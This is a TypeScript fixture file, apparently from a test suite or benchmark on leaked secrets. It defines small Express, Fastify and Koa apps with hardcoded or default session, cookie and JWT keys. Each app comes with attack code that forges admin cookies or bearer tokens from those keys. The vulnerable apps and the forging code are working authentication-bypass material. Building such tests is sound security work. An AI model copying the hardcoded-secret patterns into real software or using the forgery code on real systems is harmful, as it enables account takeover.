import { leakedKey, type Application } from "./application.ts";
import { ask, bearerAttack, sessionCookie } from "./node-attacks.ts";

const express: readonly Application[] = [
  {
    name: "Express, express-session",
    keys: { SESSION_SECRET: "keyboard cat" },
    attack: `${ask}${sessionCookie}const forge = cookie;
const meet = async (forged) => ask(await application("app.js"), { cookie: forged });
`,
    files: {
      "package.json": '{ "name": "shop" }\n',
      "app.js": `const express = require('express')
const session = require('express-session')

const app = express()
const store = new session.MemoryStore()
store.set('1', { cookie: { originalMaxAge: null }, user: 'admin' })

app.use(session({
  secret: 'keyboard cat',
  resave: false,
  saveUninitialized: false,
  store
}))
app.get('/', (req, res) => res.sendStatus(req.session.user === 'admin' ? 200 : 401))

module.exports = app
`,
    },
  },
  {
    name: "Express, two keys in cookies",
    keys: { COOKIE_KEY: leakedKey(930), COOKIE_SECRET: leakedKey(931) },
    attack: `${ask}import { sign } from "cookie-signature";
import Keygrip from "keygrip";
const forge = (key, variable) => {
  if (variable === "COOKIE_SECRET") return "user=" + encodeURIComponent("s:" + sign("admin", key));
  const session = "session=" + Buffer.from(JSON.stringify({ user: "admin" })).toString("base64");
  return session + "; session.sig=" + new Keygrip([key]).sign(session);
};
const meet = async (forged) => ask(await application("app.js"), { cookie: forged });
`,
    files: {
      "package.json": '{ "name": "shop", "type": "module" }\n',
      "app.js": `import cookieParser from "cookie-parser";
import session from "cookie-session";
import express from "express";

const app = express();
app.use(cookieParser("${leakedKey(931)}"));
app.use(session({ name: "session", keys: ["${leakedKey(930)}"], maxAge: 24 * 60 * 60 * 1000 }));
app.get("/", (req, res) => {
  res.sendStatus(req.session.user === "admin" || req.signedCookies.user === "admin" ? 200 : 401);
});

export default app;
`,
    },
  },
  {
    name: "Express, jsonwebtoken with a default",
    keys: { JWT_KEY: "my cat walks over keyboards" },
    attack: bearerAttack("app.js"),
    files: {
      "package.json": '{ "name": "shop" }\n',
      "config.js": 'module.exports = {\n  port: process.env.PORT || 3000,\n  jwtKey: process.env.JWT_KEY || "my cat walks over keyboards",\n};\n',
      "app.js": `const express = require("express");
const jwt = require("jsonwebtoken");
const config = require("./config");

const app = express();
app.get("/", (req, res) => {
  try {
    const { sub } = jwt.verify((req.headers.authorization || "").slice(7), config.jwtKey);
    res.send(sub);
  } catch {
    res.sendStatus(401);
  }
});

module.exports = app;
`,
    },
  },
  {
    name: "Express, jsonwebtoken in two files",
    keys: { JWT_SECRET: leakedKey(932) },
    attack: bearerAttack("app.js"),
    files: {
      "package.json": '{ "name": "shop", "type": "module" }\n',
      "login.js": `import jwt from "jsonwebtoken";\n\nexport const login = (user) => jwt.sign({ sub: user }, "${leakedKey(932)}", { expiresIn: "1h" });\n`,
      "app.js": `import express from "express";
import jwt from "jsonwebtoken";
import { login } from "./login.js";

const app = express();

function user(req) {
  const token = (req.headers.authorization ?? "").slice(7);
  return jwt.verify(token, "${leakedKey(932)}").sub;
}

app.post("/login", (req, res) => res.send(login("somebody")));
app.get("/", (req, res) => {
  try {
    res.send(user(req));
  } catch (error) {
    if (error instanceof jwt.JsonWebTokenError) res.sendStatus(401);
    else throw error;
  }
});

export default app;
`,
    },
  },
];

const inject = `
const meet = async (forged, variable) => {
  const app = await application("app.js");
  const { statusCode } = await app.inject({ url: "/", headers: variable === "JWT_SECRET" ? { authorization: "Bearer " + forged } : { cookie: forged } });
  return statusCode === 200;
};
`;

const others: readonly Application[] = [
  {
    name: "Fastify, its tokens and cookies",
    keys: { JWT_SECRET: leakedKey(933), COOKIE_SECRET: leakedKey(934) },
    attack: `${ask}import Fastify from "fastify";
import cookie from "@fastify/cookie";
import jwt from "@fastify/jwt";
const forge = async (key, variable) => {
  const app = Fastify();
  await app.register(cookie, { secret: key }).register(jwt, { secret: key });
  return variable === "JWT_SECRET" ? app.jwt.sign({ sub: "admin" }) : "user=" + encodeURIComponent(app.signCookie("admin"));
};
${inject}`,
    files: {
      "package.json": '{ "name": "shop", "type": "module" }\n',
      "app.js": `import Fastify from "fastify";
import cookie from "@fastify/cookie";
import jwt from "@fastify/jwt";

const app = Fastify({ logger: false });
app.register(cookie, { secret: "${leakedKey(934)}" });
app.register(jwt, {
  secret: "${leakedKey(933)}",
});

app.get("/", async (request, reply) => {
  const user = request.unsignCookie(request.cookies.user ?? "");
  if (user.valid && user.value === "admin") return "in";
  await request.jwtVerify();
  return "in";
});

export default app;
`,
    },
  },
  {
    name: "Koa, the keys of its cookies",
    keys: { COOKIE_KEY: leakedKey(935) },
    attack: `${ask}import Keygrip from "keygrip";
const forge = (key) => "user=admin; user.sig=" + new Keygrip([key]).sign("user=admin");
const meet = async (forged) => ask((await application("app.js")).callback(), { cookie: forged });
`,
    files: {
      "package.json": '{ "name": "shop" }\n',
      "app.js": `const Koa = require("koa");

const app = new Koa();
app.keys = ["${leakedKey(935)}"];
app.use((ctx) => {
  ctx.status = ctx.cookies.get("user", { signed: true }) === "admin" ? 200 : 401;
});

module.exports = app;
`,
    },
  },
];

export const javascript: readonly Application[] = [...express, ...others];
